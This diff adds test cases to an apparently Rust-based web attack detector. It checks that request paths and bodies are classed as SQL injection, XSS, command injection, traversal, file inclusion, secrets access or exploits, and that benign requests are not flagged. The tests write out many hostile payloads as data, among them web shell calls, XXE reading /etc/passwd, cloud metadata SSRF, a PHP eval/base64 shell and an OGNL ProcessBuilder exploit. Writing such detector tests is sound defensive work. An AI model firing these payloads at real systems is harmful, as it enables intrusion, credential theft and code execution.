@@ -50,6 +50,30 @@ fn attacks_are_seen() {
         ("/card_scan_decoder.php?No=30&door=%60wget%20http://a/b%60", Exploit),
         ("/SetupWizard.aspx/a", Exploit),
         ("/cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=aWQ=", Exploit),
+        ("/a?u=admin'--%20-&p=x", Sql),
+        ("/a?id=1)%20union(select(1),(2))--", Sql),
+        ("/a?id=1+order+by+10--", Sql),
+        ("/a?id=1;DROP%20TABLE%20users", Sql),
+        ("/a?id=1%20and%20ascii(substring((select%20database()),1,1))>64", Sql),
+        ("/a?q=%22%20autofocus%20onfocus=alert(document.cookie)%20x=%22", Script),
+        ("/a?q=';alert(String.fromCharCode(88))//", Script),
+        ("/a?ip=127.0.0.1%26ls", Command),
+        ("/a?ip=1%0Aid", Command),
+        ("/up/x.php?cmd=whoami", Command),
+        ("/up/x.php?c=ls%20-la%20/", Command),
+        ("/d?f=/proc/self/environ", Traversal),
+        ("/d?f=../../../wp-config.php", Traversal),
+        ("/?page=http://a.example/shell.txt", Inclusion),
+        ("/fetch?url=http://169.254.169.254/latest/meta-data/", Inclusion),
+        ("/.git/config", Secrets),
+        ("/.env", Secrets),
+        ("/?n={{7*7}}", Injection),
+        ("/?u=*)(uid=*))(|(uid=*", Injection),
+        ("/?u=%0d%0aSet-Cookie:%20a=b", Injection),
+        ("/login?user=a&pass[$ne]=1", Injection),
+        ("/x.action?redirect:${%23a%3d(new%20java.lang.ProcessBuilder('id')).start()}", Exploit),
+        ("/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1", Exploit),
+        ("/analytics/telemetry/ph/api/hyper/send?_c=&_i=/../../etc/cron.d/x", Exploit),
     ] {
         assert!(classes(target).contains(&class), "{target}: {:?}", classes(target));
     }
@@ -81,6 +105,16 @@ fn an_honest_web_is_not() {
         "/api?fields=name|size|id",
         "/list?sort=name;id",
         "/search?q=onload=+handlers+a<b+online=1",
+        "/api/users?age[$gt]=5&name[$ne]=x",
+        "/elfinder/connector?cmd=ls&target=l1_Lw",
+        "/cgi/ping?cmd=ping&id=5",
+        "/watch?v=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
+        "/doc?x={{name}}&y=${price}&z=2*3",
+        "/r?u=http%3A%2F%2Fa.example%2Fx%3Fa%3D1%26id%3D2",
+        "/player?file=http://cdn.example/v.mp4&path=http://cdn.example/s.vtt",
+        "/repo.git/config",
+        "/css/../../img/a.png",
+        "/list?order+by+name--asc",
     ] {
         assert_eq!(classes(target), [], "{target}");
     }
@@ -92,9 +126,26 @@ fn markup_and_prose_in_bodies_are_not() {
         "text=<p>Hello <a href='x'>it's</a> me; find me at home | call</p><script src=\"a.js\"></script>",
         "{\"note\":\"SELECT name FROM people; then rest\"}",
         "comment=use rm carefully; echo is nice",
+        "note=run%20bash%20-c%20or%20chmod%20777%20on%20it",
+        "<root><!-- a template {{name}} --><item o:id='5'/></root>",
     ] {
         let mut seen = Vec::new();
         inspect(&body.to_ascii_lowercase(), &plain(body.as_bytes()), Place::Body, &mut seen);
         assert!(seen.iter().all(|s| s.weight < 0.5), "{body}: {seen:?}");
+    }
+}
+
+#[test]
+fn code_for_an_interpreter_is_seen_in_bodies() {
+    for body in [
+        "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
+        "cmd=@eval(base64_decode($_POST[z0]));&z0=aWQ=",
+        "<?php system($_GET['c']); ?>",
+        "{\"user\":\"a\",\"password\": {\"$gt\":\"\"}}",
+        "x=O:21:\"JDatabaseDriverMysqli\":3:{s:2:\"fc\";}",
+    ] {
+        let mut seen = Vec::new();
+        inspect(&body.to_ascii_lowercase(), &plain(body.as_bytes()), Place::Body, &mut seen);
+        assert!(seen.iter().any(|s| s.class == Class::Injection && s.weight >= 0.5), "{body}: {seen:?}");
     }
 }
